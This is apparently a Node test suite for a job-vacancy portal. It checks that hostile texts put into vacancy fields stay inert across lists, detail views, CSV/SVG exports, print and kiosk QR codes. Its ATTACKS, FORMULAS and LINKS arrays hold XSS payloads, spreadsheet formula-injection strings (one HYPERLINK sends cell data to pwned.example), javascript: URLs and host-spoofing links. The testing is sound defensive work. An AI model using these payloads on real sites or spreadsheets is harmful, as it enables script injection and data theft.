// Vacancies whose every text is an attack, in two snapshots: one that padan's builder made of them, to see what it lets through, and one
// into which they were put past every gate, as another's builder might. Wherever a text is shown it stays a text.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import { gunzipSync, gzipSync } from 'node:zlib';
import { answer, caughtUp, DESK, PHONE, program, settled, start } from './harness.mjs';
import { attract, enter, scanned } from './kiosk.mjs';

const DAY = '2026-11-24';
const work = mkdtempSync(join(tmpdir(), 'padan-hostile-'));
const padan = (...args) =>
  execFileSync(program, args.map(String), { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], maxBuffer: 1e9 });

/** What each vacancy is made of; `pwned` in all that would act. */
const ATTACKS = [
  '<script>globalThis.pwned=1;alert(1)</script>',
  `"'><img src=/pwned.png onerror="globalThis.pwned=1"><svg onload=alert(2)>`,
  '</h3></a></li></script><iframe src="javascript:parent.pwned=1"></iframe><base href=//pwned.example>',
  '<!--?lit$123$--><?pwned?>{{constructor.constructor("pwned=1")()}}\x24{alert(3)}',
  '\u202e\u2066gpj.exe pwned \u202d\u200f',
  '\u200b\u200d\ufeff\u0007\u001b[31m\u2028pwned\u00ad',
  '"a","b"\r\n=cmd|\' /C calc\'!A0;"\t@SUM(1)',
  `&lt;img src=x onerror=pwned&gt; &#x3c;b&#62; %3Cscript%3E \\u003cscript>`,
  'W'.repeat(100_000),
  'Panjang sekali '.repeat(7000),
];
/** Texts that a spreadsheet runs; they must begin so, so their order among other texts is theirs. */
const FORMULAS = [
  '=HYPERLINK("https://pwned.example/?"&A1,"klik")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|pwned',
  '@SUM(1+1)*pwned',
  '  =1+pwned',
  '＝1+pwned',
];
const LINKS = [
  'javascript:globalThis.pwned=1',
  'data:text/html,<script>pwned=1</script>',
  'https://pwned.example/1',
  'https://karirhub.kemnaker.go.id.pwned.example/',
  'http://karirhub.kemnaker.go.id/pwned',
  'https://karirhub.kemnaker.go.id@pwned.example/',
  'https://karirhub.kemnaker.go.id/"onmouseover="pwned=1',
  'JaVaScRiPt://karirhub.kemnaker.go.id/%0apwned=1',
  '//pwned.example/',
  'blob:https://karirhub.kemnaker.go.id/pwned',
];
const HOSTILE = [...ATTACKS, ...FORMULAS];
const mark = (i) => `Q${String(i).padStart(2, '0')}`;

/** A vacancy a hostile text; `texts` says what stands in it under each name. */
const record = (i, text) => ({
  id: `h${i}`,
  title: text('title', i),
  source: { code: 'karirhub', url: `https://karirhub.kemnaker.go.id/${i}`, verification: 'verified' },
  hiringOrganization: { name: text('employer', i) },
  occupationalCategory: { code: '5230', edition: 2014, reliability: 1000 },
  jobLocation: [{ region: '3216', address: text('address', i) }],
  jobLocationType: 'on_site',
  employmentType: 'full_time',
  totalJobOpenings: 100 + i,
  educationRequirements: { level: 3, fields: [text('field', i)], required: true },
  requirements: [{ kind: 'skill', label: text('skill', i), must: true, origin: 'form' }],
  industry: text('industry', i),
  workHours: text('hours', i),
  description: `${text('duties', i)}\n- ${text('duty', i)}`,
  qualifications: text('qualifications', i),
  datePosted: '2026-11-20',
  validThrough: '2026-12-20',
});

/** What a formula begins with, or what has its place in the order where the builder would not keep that. */
const sign = (i) => {
  const [first] = FORMULAS[i - ATTACKS.length] ?? '';
  return { ' ': '!', '@': '?', '＝': 'ÿ' }[first] ?? first ?? '';
};
/** Stands for a hostile text until it is put in, and has the order that the text will have. */
const stand = (name, i) => `${sign(i)}${mark(i)}${name}`;
/** A formula stands as it is; the others begin with the mark that keeps their order. */
const planted = (i) => FORMULAS[i - ATTACKS.length] ?? `${mark(i)} ${HOSTILE[i]}`;

const sha = (bytes) => createHash('sha256').update(bytes).digest('hex');

/** A copy of a snapshot with other texts in its dictionaries and records, and every length and hash as it must be. */
function plant(from, to, swapText, swapRecord) {
  cpSync(from, to, { recursive: true });
  const manifest = JSON.parse(readFileSync(join(from, 'manifest.json'), 'utf8'));
  const [segment] = manifest.segments;
  const put = (raw, name) => {
    const bytes = gzipSync(raw);
    const hash = sha(bytes);
    const file = name.replace(/[0-9a-f]{16}/, hash.slice(0, 16));
    writeFileSync(join(to, file), bytes);
    return { file, bytes: bytes.length, rawBytes: raw.length, sha256: hash };
  };
  const read = ({ file }) => gunzipSync(readFileSync(join(from, file)));
  segment.core = put(replaced(read(segment.core), swapText), segment.core.file);
  const blocks = JSON.parse(read(segment.texts));
  for (const block of blocks) {
    const lines = read(block).toString().trimEnd().split('\n');
    const changed = lines.map((line) => JSON.stringify(swapRecord(JSON.parse(line))));
    Object.assign(block, put(Buffer.from(`${changed.join('\n')}\n`), block.file));
  }
  segment.textBytes = blocks.reduce((sum, { bytes }) => sum + bytes, 0);
  segment.texts = put(Buffer.from(JSON.stringify(blocks)), segment.texts.file);
  const { checksum: _, ...rest } = manifest;
  const text = JSON.stringify(rest, null, 2).replace(/\n\}$/, '');
  writeFileSync(join(to, 'manifest.json'), `${text},\n  "checksum": "${sha(text)}"\n}\n`);
}

/** A core with other texts in its dictionaries (docs/snapshot-format.md). */
function replaced(core, swap) {
  const sections = [];
  for (let at = 16; at < core.length; ) {
    const length = core.readUInt32LE(at + 2);
    const payload = core.subarray(at + 6, at + 6 + length);
    const head = Buffer.from(core.subarray(at, at + 6));
    const next = head[0] === 1 ? texts(payload, swap) : payload;
    head.writeUInt32LE(next.length, 2);
    sections.push(head, next);
    at += 6 + length;
  }
  return Buffer.concat([core.subarray(0, 16), ...sections]);
}

function texts(payload, swap) {
  const count = payload.readUInt32LE(0);
  const lengths = [];
  let at = 4;
  for (let i = 0; i < count; i += 1) {
    let length = 0;
    for (let shift = 0; ; shift += 7) {
      const byte = payload[at++];
      length |= (byte & 127) << shift;
      if (byte < 128) break;
    }
    lengths.push(length);
  }
  const swapped = lengths.map((length) => {
    const text = payload.subarray(at, at + length).toString();
    at += length;
    return Buffer.from(swap(text));
  });
  const varint = (n) => {
    const bytes = [];
    for (; n > 127; n >>>= 7) bytes.push((n & 127) | 128);
    return Buffer.from([...bytes, n]);
  };
  assert.deepEqual(swapped, [...swapped].sort(Buffer.compare), 'in order still');
  return Buffer.concat([payload.subarray(0, 4), ...swapped.map(({ length }) => varint(length)), ...swapped]);
}

let site;
let open = [];
/** What the builder said of the vacancies it was given as they are. */
let report;

before(async () => {
  const build = (name, text) => {
    const file = join(work, `${name}.jsonl`);
    const lines = HOSTILE.map((_, i) => JSON.stringify(record(i, text)));
    const links = LINKS.map((url, i) =>
      JSON.stringify({
        ...record(0, (name) => `Tautan ${name} ${i}`),
        id: `l${i}`,
        source: {
          code: 'karirhub',
          url: name === 'gated' ? url : `https://karirhub.kemnaker.go.id/l${i}`,
          verification: 'verified',
        },
      }),
    );
    writeFileSync(file, [...lines, ...links].join('\n'));
    // A vacancy like another's on the same portal must stay one of its own.
    const policy = join(work, 'policy.json');
    writeFileSync(
      policy,
      JSON.stringify({ groupDuplicates: false, codeOccupations: false, extractRequirements: false }),
    );
    return padan(
      'build',
      '--format',
      'jsonl',
      '--as-of',
      DAY,
      '--policy',
      policy,
      '--json',
      '--out',
      join(work, name),
      file,
    );
  };
  report = JSON.parse(build('gated', (name, i) => (sign(i) ? HOSTILE[i] : `Kasir ${name} ${HOSTILE[i]}`)));
  build('plain', stand);
  const marked = /^(skill\/)?.?Q(\d\d)[a-z]+$/u;
  const hostile = (text) => {
    const [, kind = '', i] = marked.exec(text) ?? [];
    return i === undefined ? text : kind + planted(Number(i));
  };
  plant(join(work, 'plain'), join(work, 'past'), hostile, (vacancy) => {
    const deep = (value) =>
      typeof value === 'string'
        ? value.replace(/[!=+?ÿ-]?Q(\d\d)[a-z]+/gu, (_, i) => planted(Number(i)))
        : Array.isArray(value)
          ? value.map(deep)
          : value && typeof value === 'object'
            ? Object.fromEntries(Object.entries(value).map(([name, one]) => [name, deep(one)]))
            : value;
    const [, link] = /^l(\d+)$/.exec(vacancy.id) ?? [];
    const source = link === undefined ? vacancy.source : { ...vacancy.source, url: LINKS[link] };
    const alsoAt = [{ code: HOSTILE[1], url: LINKS[0], verification: 'verified' }];
    return { ...deep(vacancy), source, alsoAt, validThrough: vacancy.validThrough };
  });
  for (const name of ['gated', 'past'])
    padan('pages', join(work, name), '--out', join(work, `pages-${name}`), '--hosts', 'karirhub.kemnaker.go.id');
  site = await start({
    mounts: Object.fromEntries(
      [
        ['/snapshot', 'past'],
        ['/gated', 'gated'],
        ['/pages-past', 'pages-past'],
        ['/pages-gated', 'pages-gated'],
      ].map(([path, name]) => [path, join(work, name)]),
    ),
  });
});
after(async () => {
  await site?.close();
  rmSync(work, { recursive: true, force: true });
});
afterEach(async () => {
  const seen = open;
  open = [];
  for (const { context } of seen) await context.close();
  for (const { errors, violations, dialogs, requests } of seen) {
    assert.deepEqual([errors, violations, dialogs], [[], [], []]);
    const foreign = requests.filter(
      ({ url }) => !/^(data|blob):/.test(url) && (new URL(url).origin !== site.origin || url.includes('pwned')),
    );
    assert.deepEqual(foreign, []);
  }
});

async function visitor(path, options = PHONE) {
  const seen = { ...(await site.open(null, options)), dialogs: [] };
  open.push(seen);
  const { page } = seen;
  page.setDefaultTimeout(15_000);
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    globalThis.prints = 0;
    globalThis.print = () => {
      globalThis.prints += 1;
    };
  });
  await page.clock.setFixedTime(`${DAY}T09:00:00+07:00`);
  if (path) await page.goto(site.origin + path);
  return page;
}

/** Nothing of the texts has become anything: no element, no attribute, no script, no address; and all fits the screen. */
async function harmless(page, what) {
  const found = await page.evaluate(() => {
    const wrong = [];
    const look = (root) => {
      for (const node of root.querySelectorAll('*')) {
        if (node.shadowRoot) look(node.shadowRoot);
        const name = node.localName;
        if (/^(iframe|object|embed|base|frame|marquee|math|portal|template)$/.test(name)) wrong.push(name);
        if (name === 'img' && !node.closest('header, footer')) wrong.push('img');
        if (name === 'script' && node.src === '' && node.type !== 'application/ld+json')
          wrong.push(`script ${node.textContent.slice(0, 40)}`);
        for (const { name, value } of node.attributes) {
          if (/^on/i.test(name)) wrong.push(name);
          if (
            /^(href|src|action|formaction|srcdoc|xlink:href)$/.test(name) &&
            /^\s*(javascript|vbscript|data:text)/i.test(value)
          )
            wrong.push(value);
          if (/^(src|srcset|background|poster)$/.test(name) && /pwned/.test(value)) wrong.push(value);
        }
        if (name === 'a' && node.hasAttribute('href')) {
          const { protocol, hostname } = new URL(node.href);
          if (!/^(https?|tel|mailto):$/.test(protocol)) wrong.push(node.href);
          if (/pwned/.test(hostname)) wrong.push(node.href);
        }
      }
    };
    look(document);
    if (globalThis.pwned !== undefined) wrong.push('a script ran');
    const { scrollWidth } = document.documentElement;
    if (scrollWidth > innerWidth) wrong.push(`${scrollWidth} px wide on a screen of ${innerWidth}`);
    return wrong;
  });
  assert.deepEqual(found, [], what);
}

const ready = async (page) => {
  await page.locator('.card').first().waitFor();
  await page.waitForFunction(() => customElements.get('padan-saved'));
  await settled(page);
  await page.waitForFunction(() => {
    const { answer, renderRoot } = document.querySelector('padan-portal');
    if (renderRoot.querySelectorAll('.card').length === answer.total) return true;
    renderRoot.querySelector('.more button')?.click();
    return false;
  });
};

describe('the builder', () => {
  it('takes out markup, what cannot be seen and addresses, cuts what is too long, and says of each how often', () => {
    assert.equal(report.rows_in, HOSTILE.length + LINKS.length);
    const { gates } = report;
    for (const gate of ['html_stripped', 'invisible_removed', 'title_trimmed', 'url_dropped', 'contact_removed'])
      assert.ok(gates[gate] > 0, `${gate}: ${JSON.stringify(gates)}`);
    const folder = join(work, 'gated');
    const records = readdirSync(folder)
      .filter((name) => /^text-/.test(name))
      .flatMap((name) =>
        gunzipSync(readFileSync(join(folder, name)))
          .toString()
          .trimEnd()
          .split('\n'),
      )
      .map((line) => JSON.parse(line));
    assert.equal(records.length + report.rejected, report.rows_in);
    for (const one of records) {
      const { url = 'https://karirhub.kemnaker.go.id/' } = one.source;
      // Whom a link may lead to the page decides; the builder takes none but of the web.
      assert.equal(new URL(url).protocol, 'https:', url);
      const text = JSON.stringify({ ...one, source: undefined });
      assert.doesNotMatch(text, /<(script|img|svg|iframe|base|\/h3)/i, one.id);
      assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069\u200b\u200f\ufeff]|\u200d|\\u0007|\\u001b/, one.id);
      assert.doesNotMatch(text, /pwned\.example/, one.id);
      assert.ok([...one.title].length <= 200 && [...(one.description ?? '')].length <= 20_000, one.id);
    }
  });
});

for (const [name, path] of [
  ['let through by the builder', '/frame'],
  ['put past every gate', ''],
]) {
  const at = (fragment) => (path ? `/gated.html${fragment}` : `/${fragment}`);
  const past = path === '';
  describe(`hostile texts ${name}`, () => {
    const visit = async (fragment, options) => {
      const seen = await visitor(null, options);
      const html = readFileSync(new URL('../../www/dist/index.html', import.meta.url), 'utf8');
      await seen.route('**/gated.html', (route) =>
        route.fulfill({ contentType: 'text/html', body: html.replace('/snapshot/', '/gated/') }),
      );
      await seen.goto(site.origin + at(fragment));
      await ready(seen);
      await settled(seen);
      return seen;
    };

    it('are texts in the list, on a phone too', async () => {
      const page = await visit('#q=');
      await harmless(page, 'list');
      const cards = page.locator('.card');
      assert.ok((await cards.count()) >= HOSTILE.length);
      const titles = await page.evaluate(() =>
        document.querySelector('padan-portal').answer.hits.map(({ title }) => title),
      );
      const words = await page.locator('.card h3').evaluateAll((all) => all.map((one) => one.textContent));
      assert.deepEqual(words, titles, 'letter for letter');
      if (past) for (const i of HOSTILE.keys()) assert.ok(words.includes(planted(i)), mark(i));
      // Typing makes marks of them, suggestions and chips.
      for (const text of ['<script>', 'gpj', '"><img', '=HYPERLINK', 'WWWW', 'pwned']) {
        await page.locator('#q').fill(text);
        await settled(page);
        await harmless(page, text);
      }
    });

    it('are texts in every record, and only a named host is linked', async () => {
      const page = await visit('#q=');
      const rows = await page.evaluate(() => document.querySelector('padan-portal').answer.hits.map(({ row }) => row));
      await answer(page, { education: 3, skills: ['kasir'], home: '3216' });
      await settled(page);
      let links = 0;
      for (const row of rows) {
        await page.evaluate((row) => {
          location.hash = `#q=&row=${row}&of=2026-11-24`;
        }, row);
        await page.waitForFunction((row) => {
          const detail = document.querySelector('padan-portal').renderRoot.querySelector('padan-detail');
          return (
            detail.row === row &&
            detail.vacancy &&
            detail.explanation &&
            detail.renderRoot.querySelector('section[aria-labelledby=facts]')
          );
        }, row);
        // Similar ones, courses and what a skill opens are texts, too; the engine answers in turn.
        await caughtUp(page);
        const detail = page.locator('padan-detail');
        const [id, title] = await detail.evaluate(({ vacancy }) => [vacancy.id, vacancy.title]);
        assert.equal(await detail.locator('#title').textContent(), title);
        await harmless(page, id);
        for (const link of await detail.locator('a[target]').all()) {
          links += 1;
          const { protocol, host } = new URL(await link.getAttribute('href'));
          assert.deepEqual([protocol, host], ['https:', 'karirhub.kemnaker.go.id'], id);
          assert.match(await link.getAttribute('rel'), /noopener/);
        }
        const wide = await detail.locator('dialog').evaluate((dialog) => dialog.scrollWidth > dialog.clientWidth);
        assert.equal(wide, false, `${id} is wider than its dialog`);
      }
      assert.ok(links > 0, 'some are linked');
    });

    it('are texts among those kept, side by side and on paper', async () => {
      const page = await visit('#q=');
      for (const button of await page.locator('.card .keep').all()) await button.click();
      // Two that say the same are one, which the second tap gives up again.
      const all = await page.evaluate(() => document.querySelector('padan-portal').saved.length);
      assert.ok(all >= HOSTILE.length, `${all} kept`);
      await page.locator('.tabs a').nth(2).click();
      const saved = page.locator('padan-saved');
      await saved
        .locator('li')
        .nth(all - 1)
        .waitFor();
      await harmless(page, 'kept');
      const boxes = saved.locator('input[type="checkbox"]:not([name])');
      for (let from = 0; from + 3 <= Math.min(all, HOSTILE.length); from += 3) {
        for (let i = from; i < from + 3; i += 1) await boxes.nth(i).check();
        await saved.locator('table').waitFor();
        await harmless(page, `side by side from ${from}`);
        for (let i = from; i < from + 3; i += 1) await boxes.nth(i).uncheck();
      }
      await saved.locator('.print').click();
      assert.equal(await page.evaluate(() => globalThis.prints), 1);
      await page.emulateMedia({ media: 'print' });
      await harmless(page, 'print');
      await page.emulateMedia({ media: null });
      // What is remembered comes back as text.
      await saved.locator('input[name=remember]').check();
      await page.reload();
      await page.locator('padan-saved li').first().waitFor();
      await harmless(page, 'remembered');
    });

    it('are texts in charts, their tables and the cross-table, and no cell of a file is a formula', async () => {
      const page = await visit('#q=', DESK);
      await page.locator('.tabs a').nth(1).click();
      const market = page.locator('padan-market');
      const files = [];
      const take = async (button) => {
        const [file] = await Promise.all([page.waitForEvent('download'), button.click()]);
        return readFileSync(await file.path(), 'utf8');
      };
      for (const [board, kinds] of [
        ['seeker', ['skills']],
        ['analyst', ['employers', 'field']],
      ]) {
        await market.locator('select[name="board"]').selectOption(board);
        for (const kind of kinds) {
          const figure = market.locator(`padan-figure[kind="${kind}"]`);
          await figure.locator('.spot').first().waitFor();
          await figure.locator('summary').click();
          await figure.locator('table tbody tr').first().waitFor();
          files.push(await take(figure.locator('.take button', { hasText: 'CSV' })));
          const svg = await take(figure.locator('.take button', { hasText: 'SVG' }));
          const drawn = await page.evaluate((svg) => {
            const parsed = new DOMParser().parseFromString(svg, 'image/svg+xml');
            return [...new Set([...parsed.querySelectorAll('*')].map(({ localName }) => localName))];
          }, svg);
          assert.ok(
            !drawn.some((name) => /parsererror|script|image|foreignObject|iframe/i.test(name)),
            `${kind}: ${drawn}`,
          );
        }
      }
      const cross = market.locator('padan-cross');
      await cross.locator('select').first().selectOption('field');
      await cross
        .locator('tbody th', { hasText: 'Q' })
        .or(cross.locator('tbody th', { hasText: 'Kasir' }))
        .first()
        .waitFor();
      files.push(await take(cross.getByRole('button', { name: 'CSV' })));
      await harmless(page, 'market');
      for (const text of files) {
        const cells = csv(text);
        assert.ok(text.includes('HYPERLINK'), 'the formulas are in it');
        for (const cell of cells.flat())
          if (!/^-?[\d.]+$/.test(cell)) assert.doesNotMatch(cell, /^[\s\u00a0]*[=+\-@＝＋－＠]/, cell.slice(0, 60));
        for (const line of cells.filter((line) => !line[0]?.startsWith('#')))
          assert.equal(line.length, cells.at(-1).length, 'no text makes a cell or a line of its own');
      }
    });

    it('are texts on the pages without JavaScript', async () => {
      const folder = past ? 'pages-past' : 'pages-gated';
      const paths = readdirSync(join(work, folder), { recursive: true }).filter((path) => path.endsWith('.html'));
      assert.ok(paths.some((path) => path.includes('list-')));
      const page = await visitor(`/${folder}/index.html`);
      let items = 0;
      for (const path of paths) {
        await page.goto(`${site.origin}/${folder}/${path}`);
        await harmless(page, path);
        items += await page.locator('article').count();
      }
      assert.ok(items >= HOSTILE.length, `${items}`);
    });

    it('are texts in the builder’s own account', async () => {
      const file = join(work, past ? 'past' : 'gated', 'report.html');
      const page = await visitor(null);
      await page.route('**/report', (route) =>
        route.fulfill({ contentType: 'text/html', body: readFileSync(file, 'utf8') }),
      );
      await page.goto(`${site.origin}/report`);
      await harmless(page, 'report.html');
    });
  });
}

/** Lines and cells of a file as RFC 4180 has them. */
function csv(text) {
  const lines = [[]];
  let [cell, quoted] = ['', false];
  const plain = text.replace(/^\ufeff/, '');
  for (let i = 0; i < plain.length; i += 1) {
    const letter = plain[i];
    if (quoted && letter === '"' && plain[i + 1] === '"') cell += plain[++i];
    else if (letter === '"') quoted = !quoted;
    else if (!quoted && letter === ',' && !lines.at(-1)[0]?.startsWith('#') && !cell.startsWith('#')) {
      lines.at(-1).push(cell);
      cell = '';
    } else if (!quoted && letter === '\n') {
      lines.at(-1).push(cell.replace(/\r$/, ''));
      lines.push([]);
      cell = '';
    } else cell += letter;
    if (letter === '"' && cell.startsWith('#')) quoted = false;
  }
  return lines.filter(([first]) => first);
}

describe('a kiosk', () => {
  it('prints hostile texts as texts, on every paper, and its codes open the portal or a named host, never another', async () => {
    for (const paper of ['a4', '80', '58']) {
      const page = await visitor('/kiosk.html', { viewport: { width: 1080, height: 1920 }, hasTouch: true });
      await attract(page);
      await page.evaluate(
        (paper) =>
          localStorage.setItem(
            'padan-kiosk.settings',
            JSON.stringify({ paper, portal: 'https://lowongan.contoh.go.id/' }),
          ),
        paper,
      );
      await page.reload();
      await attract(page);
      await enter(page);
      await harmless(page, 'list');
      const order = paper === 'a4' ? ['Tautan', '<script>'] : ['W'];
      for (const [i, word] of order.entries()) {
        await page.locator('#q').fill('');
        await settledKiosk(page);
        const cards = page.locator('.card', {
          hasText: word === 'Tautan' ? /Tautan/ : word === 'W' ? /WWWWW|Panjang sekali/ : /script|iframe|HYPERLINK/,
        });
        await cards.first().waitFor();
        const count = Math.min(5, await cards.count());
        for (let i = 0; i < count; i += 1) await cards.nth(i).locator('.keep').click();
        await page.locator('.bar .print').click();
        await page.locator('.print .now').click();
        await page.waitForFunction((prints) => globalThis.prints === prints, i + 1);
        await page.emulateMedia({ media: 'print' });
        const sheet = page.locator('body > padan-sheet');
        const items = await sheet.locator('li').count();
        assert.ok(items > 0);
        await harmless(page, `paper ${paper}`);
        const titles = await page.locator('padan-portal').evaluate(({ saved }) => saved.map(({ title }) => title));
        assert.deepEqual(
          await sheet.locator('h2').evaluateAll((all) => all.map((one) => one.textContent)),
          titles.slice(0, items),
        );
        if (word === 'Tautan')
          for (let i = 0; i < items; i += 1) {
            const code = await scanned(site, sheet.locator('figure svg').nth(i));
            const { protocol, hostname } = new URL(code);
            assert.equal(protocol, 'https:', code);
            assert.ok(['lowongan.contoh.go.id', 'karirhub.kemnaker.go.id'].includes(hostname), code);
          }
        await page.emulateMedia({ media: null });
        await page.locator('.panel .close').click();
        await page.locator('padan-portal').evaluate((portal) => portal.erase());
        await settledKiosk(page);
      }
    }
  });
});

async function settledKiosk(page) {
  await page.waitForFunction(() => {
    const { shadowRoot } = document.querySelector('padan-kiosk');
    return !shadowRoot.querySelector('padan-portal').asking;
  });
}
